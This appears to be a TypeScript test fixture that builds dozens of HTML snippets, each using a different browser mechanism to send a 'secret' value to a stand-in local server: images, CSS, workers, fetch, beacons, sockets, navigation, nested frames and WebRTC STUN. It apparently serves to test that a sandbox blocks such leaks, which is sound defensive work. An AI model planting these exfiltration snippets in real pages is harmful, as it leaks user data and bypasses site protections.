/** What a result's code may try in order to send something to a server elsewhere: by kind, each way a piece of HTML. */

interface Outside {
  /** A server that no setting lists: `http://127.0.0.1:41234`. */
  readonly address: string;
  /** `stun:127.0.0.1:41235` */
  readonly stun: string;
}

type Attempts = Readonly<Record<string, string>>;

export function outsideAttempts(outside: Outside): Readonly<Record<string, Attempts>> {
  const { address } = outside;
  const at = (name: string) => `${address}/${name}?typed=secret`;
  const run = (code: string) => `<script>${code}</script>`;
  const later = (code: string) => run(`setTimeout(() => { ${code} }, 20)`);
  const link = (rel: string, more = "") => `<link rel="${rel}" href="${at(rel)}" ${more}>`;
  const pressed = (html: string, selector = "#go") =>
    `${html}${later(`document.querySelector("${selector}").click()`)}`;
  const worker = (code: string) =>
    run(`new Worker(URL.createObjectURL(new Blob([${JSON.stringify(code)}], { type: "text/javascript" })))`);
  const nested = (html: string) =>
    `<iframe srcdoc="${html.replaceAll("&", "&amp;").replaceAll('"', "&quot;")}"></iframe>`;
  const peers = (type: string) =>
    `var made = new (${type})({ iceServers: [{ urls: "${outside.stun}" }] }); made.createDataChannel("x"); made.createOffer().then((offer) => made.setLocalDescription(offer));`;
  return {
    pictures: {
      element: `<img src="${at("img")}">`,
      "set of sources": `<img srcset="${at("srcset")} 1x">`,
      "picture element": `<picture><source srcset="${at("source")}"><img></picture>`,
      "drawing's picture": `<svg><image href="${at("svg-image")}"/></svg>`,
      "drawing's filter": `<svg><filter id="f"><feImage href="${at("fe-image")}"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`,
      "drawing's use": `<svg><use href="${at("use")}#x"/></svg>`,
      background: `<div style="background: url(${at("background")})">x</div>`,
      "set in a style": `<style>div { background: image-set("${at("image-set")}" 1x) }</style><div>x</div>`,
      "mask and cursor": `<div style="cursor: url(${at("cursor")}), auto; mask: url(${at("mask")}); border-image: url(${at("border")}) 1">x</div>`,
      "generated content": `<style>p::before { content: url(${at("content")}) }</style><p>x</p>`,
    },
    more: {
      "picture of a script": run(`new Image().src = "${at("made-image")}"`),
      button: `<input type="image" src="${at("input")}">`,
      poster: `<video poster="${at("poster")}"></video>`,
      icon: link("icon"),
      "font of a style": `<style>@font-face { font-family: f; src: url(${at("font")}) } p { font-family: f }</style><p>x</p>`,
      "font of a script": run(`new FontFace("f", "url(${at("font-face")})").load().catch(() => {})`),
      sound: `<audio autoplay src="${at("audio")}"></audio>`,
      film: `<video autoplay><source src="${at("video")}"><track default src="${at("track")}"></video>`,
      object: `<object data="${at("object")}"></object><embed src="${at("embed")}">`,
      manifest: link("manifest"),
    },
    scripts: {
      element: `<script src="${at("script")}"></script>`,
      module: `<script type="module" src="${at("module")}"></script>`,
      "import of a module": run(`import("${at("import")}").catch(() => {})`),
      "map of imports": `<script type="importmap">{"imports":{"x":"${at("map")}"}}</script><script type="module">import("x").catch(() => {})</script>`,
      worker: run(`try { new Worker("${at("worker")}") } catch {}`),
      "shared worker": run(`try { new SharedWorker("${at("shared-worker")}") } catch {}`),
      "service worker": run(`navigator.serviceWorker?.register("${at("service-worker")}").catch(() => {})`),
      "scripts of a worker": worker(`importScripts("${at("import-scripts")}")`),
      worklet: run(`new AudioContext().audioWorklet?.addModule("${at("worklet")}").catch(() => {})`),
      evaluated: run(`new Function('new Image().src = "${at("function")}"')()`),
    },
    styles: {
      sheet: link("stylesheet"),
      "import of a sheet": `<style>@import url(${at("css-import")});</style>`,
      "namespace of a sheet": `<style>@import "${at("css-import-text")}" layer(x);</style>`,
      "sheet of a script": run(
        `const sheet = new CSSStyleSheet(); sheet.replaceSync("body { background: url(${at("adopted")}) }"); document.adoptedStyleSheets = [sheet]`,
      ),
      "other base": `<base href="${address}/"><img src="base?typed=secret">`,
      "letters that are typed": `<style>input[value^="s"] { background: url(${at("letter")}) }</style><input value="secret">`,
    },
    connections: {
      fetch: run(
        `fetch("${at("fetch")}").catch(() => {}); fetch("${at("no-cors")}", { mode: "no-cors" }).catch(() => {})`,
      ),
      "fetch that outlives the page": run(
        `fetch("${at("keepalive")}", { method: "POST", keepalive: true }).catch(() => {})`,
      ),
      "fetch put off": run(`try { fetchLater("${at("fetch-later")}", { activateAfter: 0 }) } catch {}`),
      request: run(`const asked = new XMLHttpRequest(); asked.open("POST", "${at("xhr")}"); asked.send("x")`),
      beacon: run(`navigator.sendBeacon("${at("beacon")}", "x")`),
      socket: run(`try { new WebSocket("${at("socket").replace("http", "ws")}") } catch {}`),
      events: run(`new EventSource("${at("events")}")`),
      transport: run(
        `try { new WebTransport("${at("transport").replace("http:", "https:")}").ready.catch(() => {}) } catch {}`,
      ),
      "fetch of a worker": worker(`fetch("${at("worker-fetch")}").catch(() => {})`),
      "socket of a worker": worker(`new WebSocket("${at("worker-socket").replace("http", "ws")}")`),
    },
    hints: {
      prefetch: link("prefetch"),
      preconnect: link("preconnect"),
      "name looked up": link("dns-prefetch"),
      preload: link("preload", 'as="image"'),
      "module ahead": link("modulepreload"),
      "page ahead": link("prerender"),
      "hint of a script": later(
        `for (const rel of ["prefetch", "preconnect"]) { const made = document.createElement("link"); made.rel = rel; made.href = "${at("made-hint")}"; document.head.append(made) }`,
      ),
      "rules of speculation": `<script type="speculationrules">{"prefetch":[{"urls":["${at("speculated")}"],"eagerness":"immediate"}],"prerender":[{"urls":["${at("prerendered")}"],"eagerness":"immediate"}]}</script>`,
      "reports of a policy": `<meta http-equiv="Content-Security-Policy" content="img-src 'none'; report-uri ${at("report")}"><img src="data:image/png,x">`,
    },
    navigation: {
      location: later(`location = "${at("location")}"`),
      replacement: later(`location.replace("${at("replace")}")`),
      refresh: `<meta http-equiv="refresh" content="0;url=${at("refresh")}">`,
      link: pressed(`<a id="go" href="${at("link")}">x</a>`),
      "link of a drawing": `<svg><a id="go" href="${at("svg-link")}"><text>x</text></a></svg>${later(`document.querySelector("#go").dispatchEvent(new MouseEvent("click"))`)}`,
      form: `<form action="${at("form")}"><input name="typed" value="secret"></form>${later("document.forms[0].submit()")}`,
      "form of a script": `<form method="post"><button id="go" formaction="${at("formaction")}">x</button></form>${later(`document.querySelector("#go").click()`)}`,
      "blob that goes on": later(
        `location = URL.createObjectURL(new Blob(["<script>location='${at("blob")}'<" + "/script>"], { type: "text/html" }))`,
      ),
      "text that goes on": later(`location = "data:text/html,<script>location='${at("data")}'</script>"`),
    },
    windows: {
      "new window": later(`window.open("${at("open")}")`),
      "link to a new window": pressed(`<a id="go" target="_blank" href="${at("blank")}">x</a>`),
      "link to the whole window": pressed(`<a id="go" target="_top" href="${at("top")}">x</a>`),
      "the whole window": later(`try { top.location = "${at("top-location")}" } catch {}`),
      "the page around": later(`try { parent.location.replace("${at("parent-location")}") } catch {}`),
      "link that pings": pressed(`<a id="go" href="#x" ping="${at("ping")}">x</a>`),
      download: pressed(`<a id="go" download href="${at("download")}">x</a>`),
      "form to a new window": `<form target="_blank" action="${at("form-blank")}"></form>${later("document.forms[0].submit()")}`,
    },
    "frames within": {
      frame: `<iframe src="${at("iframe")}"></iframe>`,
      "frame that is led": `<iframe></iframe>${later(`window[0].location = "${at("led")}"`)}`,
      "picture in a frame": nested(`<img src="${at("nested-img")}">`),
      "fetch in a frame": nested(run(`fetch("${at("nested-fetch")}")`)),
      "frame that goes": nested(run(`location = "${at("nested-location")}"`)),
      "frame that refreshes": nested(`<meta http-equiv="refresh" content="0;url=${at("nested-refresh")}">`),
      "frame of a blob": run(
        `const made = document.createElement("iframe"); made.src = URL.createObjectURL(new Blob(["<img src='${at("blob-frame")}'>"], { type: "text/html" })); document.documentElement.append(made)`,
      ),
      "link into a frame": pressed(
        `<iframe name="within"></iframe><a id="go" target="within" href="${at("into")}">x</a>`,
      ),
      "hint in a frame": nested(link("preconnect")),
    },
    "peer to peer": {
      "peer connection": run(peers("RTCPeerConnection")),
      "by its older name": run(peers("webkitRTCPeerConnection")),
      "in a frame": nested(run(peers("RTCPeerConnection"))),
      "in a frame within a frame": nested(nested(run(peers("RTCPeerConnection")))),
      "from an empty frame": `<iframe></iframe>${run(peers("window[0].RTCPeerConnection"))}`,
      "in a hidden tree": run(
        `const host = document.createElement("div"); document.documentElement.append(host); host.attachShadow({ mode: "closed" }).innerHTML = ${JSON.stringify(nested(run(peers("RTCPeerConnection")))).replaceAll("</", "<\\/")}`,
      ),
    },
  };
}
